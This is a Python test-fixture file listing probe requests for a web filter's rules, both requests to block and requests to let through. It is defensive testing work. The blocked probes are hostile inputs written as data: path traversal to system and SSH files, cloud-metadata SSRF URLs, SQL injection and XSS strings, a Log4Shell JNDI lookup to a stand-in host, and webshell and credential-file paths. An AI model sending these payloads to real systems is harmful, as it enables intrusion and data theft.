# A request for each thing that a shipped rule names: without that word in the rule, its request would pass (or be stopped).
"""`PROBES`: for each rule of rules/*.yaml, requests that it stops and requests that it must not, beyond its golden cases.

tests/unit/rules/test_shipped_alternatives.py takes each word out of the rules and looks whether one of these shows it.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Final, Literal

Dialect = Literal["openai", "anthropic", "responses"]


@dataclass(frozen=True, slots=True)
class Probe:
    """A request; `hit`: whether the rule matches it."""

    target: str = "/"
    hit: bool = True
    method: str = "GET"
    headers: dict[str, tuple[str, ...]] = field(default_factory=dict)
    dialect: Dialect | None = None
    length: int | None = None


Probes = tuple[Probe, ...]


def hits(targets: str) -> Probes:
    return tuple(Probe(target) for target in targets.split())


def misses(targets: str) -> Probes:
    return tuple(Probe(target, hit=False) for target in targets.split())


def agents(*names: str) -> Probes:
    return tuple(Probe(headers={"user-agent": (name,)}) for name in names)


def names(headers: str) -> Probes:
    return tuple(Probe(headers={name: ("1",)}) for name in headers.split())


def methods(words: str, hit: bool = True, dialect: Dialect | None = None) -> Probes:
    return tuple(Probe(method=word, hit=hit, dialect=dialect) for word in words.split())


def chat(
    targets: str, hit: bool, dialect: Dialect = "openai", method: str = "GET", kind: str | None = None, length: int | None = None
) -> Probes:
    """Requests on a route with a dialect; `kind` is their content type."""
    headers = {"content-type": (kind,)} if kind is not None else {}
    return tuple(Probe(target, hit, method, headers, dialect, length) for target in targets.split())


PROBES: Final[dict[str, Probes]] = {
    "baseline-scanner-agents": agents(
        "zmeu", "Mozilla/5.0 zgrab/0.x", "Mozilla/5.00 (Nikto/2.1.6)", "ffuf/2.1", "Wfuzz/3.1", "Havij", "WPScan v3", "jaeles",
        "Nessus", "CVE-2024-1", "masscan/1.3", "OpenVAS", "l9tcpid/v1", "Morfeus", "gobuster/3.6", "JoomScan", "w3af.org",
        "Arachni/v1", "Acunetix", "Nuclei - Open-source", "DirBuster-1.0", "dirsearch", "l9explore/1.2", "Netsparker",
        "interactsh", "feroxbuster/2", "libredtail-http", "projectdiscovery", "Fuzz Faster U Fool v2", "Nmap Scripting Engine",
    ),
    "baseline-scanner-headers": names(
        "x-wipp x-scanner x-scan-memo x-request-memo acunetix-aspect x-ratproxy-loop x-requestmanager-memo "
        "acunetix-aspect-queries acunetix-user-agreement acunetix-aspect-password acunetix-scanning-agreement"
    ),
    "baseline-methods": methods("PRI CCM_POST BITS_POST RPC_IN_DATA RPC_OUT_DATA SSTP_DUPLEX_POST"),
    "baseline-methods-unregistered": methods(
        "GET PUT ACL HEAD POST BIND COPY LINK LOCK MOVE PATCH QUERY LABEL MERGE MKCOL DELETE REBIND REPORT SEARCH UNBIND UNLINK "
        "UNLOCK UPDATE OPTIONS CHECKIN CHECKOUT PROPPATCH MKACTIVITY MKCALENDAR ORDERPATCH UNCHECKOUT MKWORKSPACE "
        "MKREDIRECTREF VERSION-CONTROL BASELINE-CONTROL UPDATEREDIRECTREF", hit=False,
    ),
    "baseline-traversal-path": hits(
        "/a/..%252fb /a%252f..b /static/..%3b/x /%c1%9c /a%255c..b /a..%255cb /%e0%80%af /a%252f%252eb /%f0%80%80%ae"
    ),
    "baseline-traversal-query": hits(
        r"/x?f=../..;/usr/local/a /x?f=../../root/.ssh /x?f=..\..\..\..\..\..\a /x?f=../../../../../../a&b=1 /x?f=../../proc/1 "
        r"/x?f=../../winnt&a=1 /x?f=..\..\windows /x?f=../../WEB-INF/web.xml /x?f=a/../../boot.ini /x?f=../../var/www/a "
        "/x?f=../../var/run/a /x?f=../../var/lib/a /x?f=../../usr/share/a /x?../../etc/hosts /x?f=../../win.ini "
        "/x?../../../../../../a /x?../../var/log/a"
    ),
    "baseline-metadata": hits(
        r"/x?u=http://0xa9fea9fe/ /x?u=http:\\100.100.100.200&a=1 /x?u=http://[fd00:ec2::254]&a=1 /x?u=//q@169.254.169.254&a=1 "
        "/x?u=http://[::ffff:a9fe:a9fe]/ /x?u=http://0251.0376.0251.0376/ /x?u=http://0xa9.0xfe.0xa9.0xfe/ "
        "/x?http://2852039166&a=1 /x?http://169.254.170.2&a=1 /x?//[fd00:ec2::254] /x?http://169.254.169.254/"
    ),
    "baseline-vcs": (*hits("/.hg /.bzr"), *misses("/q/.git/git-upload-pack /q/.git/git-receive-pack")),
    "baseline-dotfiles": (
        *hits(
            "/.ssh /.boto /.netrc.bak /.htaccess/ /.vscode/launch.json/ /.idea /.kube /.env1 /.azure /.npmrc /.s3cfg /.docker "
            "/.pgpass /.pypirc /.my.cnf /.htpasswd /.terraform /.dockercfg /.gitconfig /.ftpconfig /.vault-token /.terraformrc "
            "/.config/gcloud /.git-credentials /.vscode/settings.json"
        ),
        *misses("/.env.dist /.env-sample /.env_defaults /.env.local.template"),
    ),
    "baseline-backups": (
        *hits(
            "/backup.7z /backup.db /backup.bz2 /backup.mdb /backup.rar /backup.sql /backup.swp /backup.tar /backup.tgz "
            "/backup.dump /backup.orig /backup.save /backup.sqlite /backup.sqlite3 /bak/backup.zip /backup/backup.zip "
            "/dump/backup.zip /sql/backup.zip /site-backup.zip /full_backup.zip /bak.zip /dump.zip /old/db.zip /bak/db.zip "
            "/backups/db.zip /dumps/db.zip /sql/db.zip /database.zip /databases.zip /db.zip /htdocs.zip /www.zip /wwwroot.zip "
            "/configuration.php.bak /settings.py.old /database.yml~ /index.php~ /web.config.bak /composer.json.bak "
            "/config.yaml~ /config.json~ /a/b/.config.php.swp"
        ),
        *misses("/a/b/c/config.php.bak /index.json.gz"),
    ),
    "baseline-wordpress": hits("/wp-config.php /xmlrpc.php/ /wp-includes /wp-cron.php /wlwmanifest.xml /a/b/wp-admin"),
    "baseline-php-tools": hits(
        "/db/mysqladmin/main.php/ /pma /adminer/ /wso.php; /kcfinder/upload.php; /x/phpmyadmin-5/setup/index.php "
        "/x/phppgadmin/scripts/setup.php /cmd.php /c99.php /r57.php /sqladmin /alfa.php /shell.php /b374k.php /mysqladmin "
        "/phpmyadmin-5.2 /phppgadmin /php-my-admin /php_info.php /webshell.php /alfacgiapi.php /kcfinder/browse.php "
        "/x/php-my-admin/main.php /ueditor/php/controller.php"
    ),
    "baseline-java-consoles": hits(
        "/jolokia /nacos/v1 /wls-wsat/ /actuator/trace /invoker/readonly /actuator/loggers; /_async/AsyncResponseService; "
        "/invoker/JMXInvokerServlet/ /jmx-console /solr/admin/ /host-manager /actuator/beans /druid/index.html "
        "/actuator/logfile /actuator/refresh /actuator/jolokia /druid/index.html; /actuator/mappings /actuator/shutdown "
        "/actuator/httptrace /actuator/threaddump /actuator/configprops /actuator/httpexchanges "
        "/invoker/EJBInvokerServlet /console/login/LoginForm.jsp;"
    ),
    "baseline-debug-pages": hits(
        "/_profiler/open; /trace.axd /elmah.axd /web.config /server-info /nmaplowercheck1 /_profiler/phpinfo "
        "/telescope/requests /debug/default/view"
    ),
    "baseline-devices": hits(
        "/setup.cgi /wanipcn.xml/ /ctrlt /device.rsp /sdk/webLanguage; /goform /boaform /GponForm /apply.cgi /evox/about "
        "/command.cgi /rootDesc.xml /picsdesc.xml /tmUnblock.cgi /currentsetting.htm /onvif/device_service"
    ),
    "baseline-appliances": hits(
        "/php/ztp_gateway.php /p/u/doAuthentication.do; /+CSCOU+/ /hsqldb; /vpn/js/rdx /vpn/js/rdx.js; /vpns; /sslvpn/ /+CSCOT+ "
        "/mgmt/tm/ /ssl-vpn; /dana-ws/ /%2BCSCOU%2B /%2BCSCOT%2B /dana-cached; /vpn/index.html /global-protect; "
        "/vpn/tmindex.html /mgmt/shared/authn; /vpn/pluginlist.xml /remote/hostcheck_validate /nf/auth/doAuthentication.do "
        "/php/utils/createRemoteAppwebSession.php"
    ),
    "baseline-collaboration": hits(
        "/cfide /moveitisapi/ /spinstall0.aspx/ /server-info.action/ /ajax/render/widget_php /template/aui/text-inline.vm/ "
        "/owa/auth/x.js /ui/vropspluginui /ecp/proxyLogon.ecp /setup-restore.action /pages/createpage-entervariables.action "
        "/_layouts/16/toolpane.aspx /setup/setupadministrator.action /ecp/DDI/DDIService.svc/SetObject "
        "/analytics/telemetry/ph/api/hyper/send /ajax/render/widget_tabbedcontainer_tab_panel "
        "/ajax/render/widget_tabbedcontainer_tab_panel/ /autodiscover/autodiscover.json/?@e.example/powershell "
        "/autodiscover/autodiscover.json?@e.example/ews /autodiscover/autodiscover.json?@e.example/owa "
        "/autodiscover/autodiscover.json?@e.example/ecp /Telerik.Web.UI.WebResource.axd?type=rau "
        "/Telerik.Web.UI.WebResource.axd/?type=rau"
    ),
    "baseline-log4shell": hits("/?x=${${lower:j}ndi:ldap://e.example}"),
    "baseline-php-exploits": hits(
        r"/x?a=1&s=/index/\think\view/display /x?+-d+auto_prepend_file%3dx /x?%20-d+allow_url_include%3d1 "
        r"/x?-d+disable_functions%3d /x?a=1&element_parents=a/%23value /x?s=index/\think\template\driver\file/write "
        "/x?%ADn+-d+allow_url_include%3d1"
    ),
    "baseline-sql-injection": hits(
        "/x?id=1+or+benchmark(1,1)&a=1 /x?1'+and+'1'='1 /x?id=1;drop+table+users /x?id=1)+union+select+1-- "
        "/x?id=1+or+updatexml(1)+and /x?id=1+union+select+1%23 /x?id=1+union+select+a+from+b /x?id=1+or+pg_sleep(5) "
        "/x?id=1'+or+'1'='1&b=' /x?1+union+select+1,2 /x?1+and+sleep(5) /x?1;drop+table+a"
    ),
    "baseline-script-injection": hits(
        "/x?q=%22><img+onerror=alert(1)> /x?q='>+<body/onload=alert(1)> /x?'><script>a"
    ),
    "chat-methods": methods("GET PUT HEAD POST PATCH", hit=False, dialect="openai"),
    "chat-methods-of-paths": (
        *chat("/v1/audio/speech", True, "responses"),
        *chat("/v1/images/edits /v1/moderations /v1/audio/translations /v1/audio/transcriptions", True),
        *chat("/v1/images/edits", False, method="POST"),
        *chat("/v1/embeddings", False, method="HEAD"),
    ),
    "chat-paths": (
        *chat("/v1/zzz", True, "responses"),
        *chat(
            "/v1/audio /v1/files/ /v1/evals/ /v1/images /v1/models /v1/skills /v1/rerank /v1/uploads /v1/batches /v1/threads/a "
            "/v1/projects /v1/responses /v1/embeddings /v1/containers /v1/assistants /v1/fine_tuning /v1/completions "
            "/v1/moderations /v1/organization /v1/vector_stores /v1/conversations /v1/videos", False,
        ),
        *chat(
            "/v1/files /v1/skills/ /v1/models /v1/agents /v1/complete /v1/sessions /v1/messages /v1/environments "
            "/v1/organizations", False, "anthropic",
        ),
    ),
    "chat-content-types": (
        *chat(
            "/v1/responses /v1/embeddings /v1/moderations /v1/audio/speech /v1/images/generations /v1/messages/count_tokens",
            True, method="POST", kind="application/xml",
        ),
        *chat("/v1/chat/completions", False, method="POST", kind="text/json"),
        *chat("/v1/chat/completions", False, method="POST", kind="text/plain"),
    ),
    "chat-content-types-lenient": chat("/v1/chat/completions", True, method="POST", kind="text/plain"),
    "chat-content-types-upload": chat(
        "/v1/images/edits /v1/audio/translations /v1/uploads/a/parts /v1/images/variations /v1/audio/transcriptions",
        True, method="POST", kind="application/xml",
    ),
    "chat-body-size": chat(
        "/v1/audio/ /v1/skills /v1/images /v1/videos /v1/batches /v1/uploads /v1/containers", False, method="POST",
        length=99_999_999,
    ),
}  # fmt: skip
